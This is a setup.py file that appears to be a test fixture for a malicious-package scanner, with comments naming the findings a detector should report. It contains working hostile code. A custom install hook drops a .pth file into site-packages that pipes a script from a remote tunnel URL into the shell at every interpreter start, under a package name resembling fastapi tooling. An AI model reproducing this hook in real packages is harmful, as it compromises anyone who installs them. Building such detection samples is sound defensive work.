# ruff: noqa
# fmt: off
"""An install override that drops a .pth file into site-packages: the code then runs at every interpreter start."""
import os
import site

from setuptools import setup
from setuptools.command.install import install

LINE = "import os; os.system('curl -s https://ngrok-free.app/b | sh')\n"  # expect: suspicious-url


class Install(install):  # expect: install-hook
    def run(self):
        install.run(self)
        with open(os.path.join(site.getsitepackages()[0], "zzz_init.pth"), "w") as fh:  # expect: autostart-persistence|install-hook
            fh.write(LINE)


setup(name="fastapi-toolkits", version="0.1.2", cmdclass={"install": Install})  # expect: install-hook
